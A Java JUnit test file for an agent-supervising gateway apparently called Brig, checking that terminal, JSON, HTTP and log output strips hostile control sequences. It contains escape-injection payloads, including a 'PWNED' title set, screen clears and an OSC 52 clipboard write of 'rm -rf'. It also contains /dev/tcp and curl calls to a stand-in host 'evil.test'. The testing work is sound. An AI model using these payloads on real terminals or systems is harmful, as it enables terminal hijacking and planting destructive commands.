package brig.gateway.e2e;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import brig.cli.terminal.HostileText;
import brig.protocol.json.Json;
import brig.protocol.json.JsonObject;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Every control character and sequence that a terminal knows, said and named by agents, on a pseudo-terminal through each
 * command: nothing but text, tabs, newlines and colours comes out. The same through pipes, JSON, HTTP and the logs.
 */
@Timeout(180)
@Order(3)
class TerminalOutputTest {
    private static final String ESC = "\u001b";
    private static final String RESET = ESC + "[0m";
    /** What Brig itself writes to redraw in place: wrapping off and on, back up, clear from there, the spinner's line. */
    private static final Pattern OWN =
            Pattern.compile(ESC + "\\[\\?7[lh]|" + ESC + "\\[\\d+A" + ESC + "\\[J|\\r" + ESC + "\\[K");

    private static final Pattern COLOUR = Pattern.compile(ESC + "\\[[0-9;:]*m");
    private static final Pattern CONTROL_IN_DATA = Pattern.compile("[\\x00-\\x09\\x0b-\\x1f\\x7f-\\x9f]");
    private static final String NAME =
            "n" + ESC + "]0;PWNED\u0007" + ESC + "[2J\u009b2J\u202e\u2066\u200b\u0085\r\t\u007fe";

    private static Outside outside;
    private static Product product;
    private static byte[] hostile;

    @BeforeAll
    static void start() throws IOException {
        hostile = hostile();
        outside = new Outside();
        outside.writePolicy("web", 0);
        product = Product.start(outside.settings("build", "web", "review"));
        loud();
        tracked();
    }

    @AfterAll
    static void stop() throws IOException {
        if (product != null) {
            product.close();
        }
        outside.close();
    }

    /** Every form, and every byte that is no UTF-8, alone and as the beginning of a sequence of eight bits. */
    private static byte[] hostile() {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (int b = 0x80; b < 0x100; b++) {
            all.writeBytes(new byte[] {'<', (byte) b, '0', ';', 'x', 7, '>', (byte) b, '2', 'J', '\n'});
        }
        all.writeBytes(HostileText.all().getBytes(StandardCharsets.UTF_8));
        return all.toByteArray();
    }

    private static String says(String more) {
        return "echo " + Base64.getEncoder().encodeToString(hostile) + " | base64 -d | tee /dev/stderr" + more;
    }

    /** A session that has said all of it, and ended. */
    private static void loud() throws IOException {
        Run run = product.brig("run", "--task-id", "loud", "shell", "--", says(""));
        assertEquals(0, run.exitCode(), run::err);
        assertArrayEquals(
                new String(hostile, StandardCharsets.UTF_8).getBytes(StandardCharsets.UTF_8),
                run.out().getBytes(StandardCharsets.UTF_8),
                "a pipe gets every character");
    }

    /** Sessions with every field that an agent fills; one goes on. */
    private static void tracked() throws IOException {
        Wire over = product.dial();
        tell(over, "over");
        over.close();
        Await.until(
                "it is over",
                () -> product.ask("{\"action\":\"status\",\"id\":\"over\"}").has("ended_ms"));
        live = product.dial();
        tell(live, "live");
    }

    private static Wire live;

    private static void tell(Wire wire, String taskId) throws IOException {
        wire.sendLine(
                line(Map.of("action", "track", "agent", "claude", "task_id", taskId, "workspace", "/tmp/" + NAME)));
        assertTrue(wire.message().has("spawn_id"));
        List<Map<String, Object>> frames = new ArrayList<>();
        frames.add(Map.of("type", "state", "state", "running"));
        frames.add(Map.of("type", "session", "session_id", "ses-" + taskId + NAME, "agent", NAME, "model", NAME));
        for (int i = 0; i < 3; i++) {
            frames.add(Map.of(
                    "type",
                    "subagent",
                    "agent_id",
                    NAME + i,
                    "depth",
                    i + 1,
                    "status",
                    "failed",
                    "background",
                    true,
                    "subagent_type",
                    NAME,
                    "prompt",
                    NAME,
                    "error",
                    NAME));
            frames.add(Map.of(
                    "type",
                    "chunk",
                    "agent",
                    NAME + i,
                    "stream",
                    i == 1 ? "stderr" : "text",
                    "content",
                    HostileText.all()));
            frames.add(Map.of(
                    "type", "tool", "id", NAME, "name", NAME, "title", NAME, "status", "failed", "output", NAME));
            frames.add(Map.of("type", "error", "error", NAME, "code", "AGENT_ERROR", "agent", NAME + i));
        }
        long seq = 0;
        for (Map<String, Object> frame : frames) {
            Map<String, Object> numbered = new LinkedHashMap<>(frame);
            numbered.put("seq", ++seq);
            numbered.put("ts", System.currentTimeMillis());
            wire.sendLine(line(numbered));
        }
        long last = seq;
        for (JsonObject ack = wire.message(); ack.number("ack", 0) < last; ack = wire.message()) {
            assertTrue(ack.has("ack"), ack::toString);
        }
    }

    private static String line(Map<String, ?> object) {
        return new String(Json.write(object), StandardCharsets.UTF_8);
    }

    /** What may have come out, and whose colours are at the end. */
    private static String requireHarmless(String command, String shown) {
        String left = OWN.matcher(shown).replaceAll("");
        if (!HostileText.HARMLESS.matcher(left).matches()) {
            int at = 0;
            while (HostileText.HARMLESS
                    .matcher(left.substring(0, at + 1) + (left.charAt(at) == 0x1b ? "[m" : ""))
                    .matches()) {
                at++;
            }
            throw new AssertionError(command + " let through: "
                    + line(Map.of("at", left.substring(Math.max(0, at - 60), Math.min(left.length(), at + 20)))));
        }
        List<String> colours =
                COLOUR.matcher(left).results().map(found -> found.group()).toList();
        assertTrue(
                colours.isEmpty() || List.of(RESET, ESC + "[m").contains(colours.getLast()),
                () -> command + " left a colour: " + colours.getLast());
        return left;
    }

    private static String onTerminal(String... arguments) throws IOException {
        return requireHarmless(Arrays.toString(arguments), Pty.run(product.command(arguments)));
    }

    @Test
    void shouldLetNothingThroughOfWhatAnAgentSays() throws IOException {
        for (String[] command : new String[][] {
            {"run", "shell", "--", says("")}, {"logs", "loud"}, {"logs", "-f", "loud"}, {"attach", "loud"},
            {"logs", "over"}, {"logs", "-f", "over"}, {"attach", "over"}, {"logs", "live"}
        }) {
            String shown = onTerminal(command);
            assertTrue(
                    shown.contains("last") && shown.contains("begin\n") && shown.contains(ESC + "[31;8m"),
                    () -> command[0] + ": " + shown);
        }
        String narrowed = onTerminal("logs", "--agent", NAME + "2", "over");
        assertTrue(narrowed.contains("last"), narrowed);
    }

    @Test
    void shouldLetNothingThroughOfWhatACommandBesideSays() throws IOException {
        Spawned idle = product.idle("host");
        String shown = onTerminal("exec", "host", "--", says("; exit 3"));
        assertTrue(shown.contains("last"), shown);
        product.ask("{\"action\":\"terminate\",\"id\":\"" + idle.id() + "\"}");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "sessions --all",
                "sessions --all --posture",
                "tree over",
                "tree -f over",
                "tree live",
                "top --once --interval 0.1",
                "agents",
                "doctor",
                "status",
                "workspaces",
                "token list",
                "egress list over",
                "open --print",
                "tree --json over",
                "--json logs over",
                "--json logs loud",
                "--json attach over",
                "--json sessions --all",
                "--json top --once --interval 0.1"
            })
    void shouldLetNothingThroughOfWhatAgentsNamed(String command) throws IOException {
        String shown = onTerminal(command.split(" "));
        assertFalse(shown.isBlank(), command);
        if (command.startsWith("--json") || command.contains(" --json ")) {
            assertFalse(shown.contains(ESC), "JSON has no colours");
            shown.lines().forEach(one -> Json.parseObject(one.getBytes(StandardCharsets.UTF_8)));
        }
    }

    @Test
    void shouldWriteItsOwnSequencesOnlyWhereItDrawsInPlace() throws IOException {
        try (Pty top = Pty.start(product.command("top", "--interval", "0.1"))) {
            top.readUntil("TASK", 1);
            top.press('x');
            top.press('q');
            String shown = top.readToEnd();
            assertFalse(shown.contains("x\u001b") || shown.endsWith("q"), "keys are not echoed");
        }
        try (Pty top = Pty.start(product.command("top", "--interval", "0.1"))) {
            top.readUntil(ESC + "[?7h", 3);
            top.interrupt();
            assertTrue(requireHarmless("top", top.readToEnd()).contains("live"));
        }
        try (Pty tree = Pty.start(product.command("tree", "-f", "live"))) {
            tree.readUntil(ESC + "[?7h", 2);
            tree.interrupt();
            requireHarmless("tree -f", tree.readToEnd());
        }
    }

    @Test
    void shouldShowEveryCharacterOfWhatChanged() throws IOException {
        Path repository = Files.createDirectories(product.workspaces().resolve("project"));
        Run made = Run.of(
                List.of(
                        "sh",
                        "-ec",
                        "cd " + repository + " && git init -q . && echo one > a.txt && git add . && "
                                + "git -c user.name=t -c user.email=t@example.org commit -qm first && if [ $(id -u) = 0 ]; then chown -R 59617 .; fi"),
                "",
                product.folder());
        assertEquals(0, made.exitCode(), made::err);
        String name = Base64.getEncoder()
                .encodeToString(("f" + NAME.replace("\r", "") + "\n").getBytes(StandardCharsets.UTF_8));
        String content = Base64.getEncoder()
                .encodeToString(HostileText.all().replace("\u0000", "").getBytes(StandardCharsets.UTF_8));
        Run run = product.brig(
                "run",
                "--task-id",
                "changed",
                "-r",
                repository.toString(),
                "shell",
                "--",
                "n=$(echo " + name + " | base64 -d); echo " + content + " | base64 -d > \"$n\"; cp \"$n\" a.txt");
        assertEquals(0, run.exitCode(), run::err);
        String shown = onTerminal("diff", "changed");
        assertTrue(shown.contains("\\u001b]0;title\\u0007") && shown.contains("\\u202e"), shown);
        assertFalse(shown.contains(ESC), "a file's colours are characters of it");
        assertTrue(product.brig("diff", "changed").out().contains(ESC + "]0;title\u0007"), "a pipe gets it as it is");
        onTerminal("workspaces");
        onTerminal("apply", "--check", "changed");
        assertTrue(onTerminal("apply", "changed").contains("taken over"));
        onTerminal("discard", "changed");
    }

    @Test
    void shouldLetNothingThroughOfWhatAnAgentAskedOutside() throws IOException {
        String host = outside.at("evil.test");
        String path = "/" + NAME.replace("\r", "").replace("\t", "");
        String request = Base64.getEncoder()
                .encodeToString(("GET " + path + " HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n")
                        .getBytes(StandardCharsets.UTF_8));
        String odd = Base64.getEncoder()
                .encodeToString(("G" + ESC + "[2J / HTTP/1.1\r\nHost: x" + NAME + "\r\nConnection: close\r\n\r\n")
                        .getBytes(StandardCharsets.UTF_8));
        String ask = "exec 3<>/dev/tcp/evil.test/" + outside.port()
                + "; echo %s | base64 -d >&3; timeout 10 cat <&3; exec 3>&-; ";
        String shown = onTerminal(
                "run",
                "--policy",
                "web",
                "--task-id",
                "asks",
                "shell",
                "--",
                ask.formatted(request) + ask.formatted(odd) + "curl -s http://" + host + "/plain; echo end");
        assertTrue(shown.contains("end"), shown);
        Await.until(
                "it is on record",
                () -> product.brig("audit", "--spawn", "asks").out().contains("/plain"));
        onTerminal("audit", "--spawn", "asks");
        onTerminal("--json", "audit", "--spawn", "asks");
        onTerminal("egress", "list", "asks");
    }

    @Test
    @Tag("slow")
    void shouldLetNothingThroughOfWhatIsRefused() throws IOException {
        for (String[] command : new String[][] {
            {"logs", NAME},
            {"run", NAME, "--", "x"},
            {"tree", NAME},
            {"diff", NAME},
            {"apply", NAME},
            {"attach", NAME},
            {"exec", NAME, "--", "x"},
            {"terminate", NAME},
            {"discard", NAME},
            {"rebind", NAME},
            {"pause", NAME},
            {"resume", NAME},
            {NAME},
            {"--" + NAME},
            {"egress", "allow", "loud", NAME},
            {"egress", "list", NAME},
            {"token", "revoke", NAME},
            {"open", NAME},
            {"port", NAME, "80"},
            {"spawn", "--task-id", NAME, "shell"},
            {"run", "-r", "/" + NAME, "shell", "--", "x"},
            {"track", "--", NAME},
            {"track", "--format", NAME},
            {"--json", "logs", NAME},
            {"completion", NAME},
            {"top", "--interval", NAME}
        }) {
            assertFalse(onTerminal(command).isBlank(), command[0]);
        }
    }

    @Test
    void shouldLetNothingThroughOfAnAgentThatItTracks() throws IOException {
        Path said = Files.write(product.folder().resolve("said"), hostile);
        for (String where : List.of("", " >&2")) {
            assertTrue(onTerminal("track", "--format", "claude-stream-json", "--", "sh", "-c", "cat " + said + where)
                    .contains("last"));
        }
    }

    @Test
    void shouldEndColoursWhenItIsInterrupted() throws IOException {
        try (Pty run = Pty.start(product.command(
                "run", "--task-id", "cut", "shell", "--", "printf '\\033[31;8mred-hidden'; sleep 600"))) {
            run.readUntil("red-hidden", 1);
            run.interrupt();
            String shown = run.readToEnd();
            requireHarmless("run", shown);
            assertTrue(shown.contains(ESC + "[31;8mred-hidden") && shown.contains(RESET), shown);
        }
    }

    @Test
    void shouldPassEverythingWhereAPersonTrustsTheAgent() throws IOException {
        String shown = Pty.run(product.command("logs", "--raw", "loud"));
        assertTrue(shown.contains(ESC + "]52;c;cm0gLXJm\u0007") && shown.contains(ESC + "[1J"), "asked for");
    }

    @Test
    void shouldHaveNoControlCharacterInDataForPrograms() throws IOException {
        for (String command : List.of(
                "logs loud",
                "logs over",
                "tree over",
                "sessions --all",
                "top --once --interval 0.1",
                "attach over",
                "workspaces")) {
            requireNoControl(
                    command, product.brig(("--json " + command).split(" ")).out());
        }
        for (String path : List.of(
                "sessions/loud/stream", "sessions/over/stream", "sessions/live/tree", "spawns", "sessions/over/tree")) {
            Web web = product.web();
            String body = path.endsWith("stream")
                    ? stream(web, path)
                    : web.get("/api/v1/" + path).response().body();
            requireNoControl(path, body);
        }
        for (String file : List.of("serve.log", "state/worker-agent.log")) {
            String log = Files.readString(product.folder().resolve(file));
            requireNoControl(file, log);
            assertFalse(log.contains("\u202e"), file);
        }
    }

    private static String stream(Web web, String path) throws IOException {
        return web.send(web.request("/api/v1/" + path)
                        .header("Accept", "text/event-stream")
                        .header("Last-Event-ID", "earliest"))
                .response()
                .body();
    }

    private static void requireNoControl(String what, String data) {
        assertFalse(data.isEmpty(), what);
        assertFalse(
                CONTROL_IN_DATA.matcher(data).find(),
                () -> what + " has a control character: "
                        + line(Map.of(
                                "data",
                                CONTROL_IN_DATA
                                        .matcher(data)
                                        .results()
                                        .limit(1)
                                        .map(found -> data.substring(
                                                Math.max(0, found.start() - 40),
                                                Math.min(data.length(), found.end() + 40)))
                                        .toList())));
    }
}
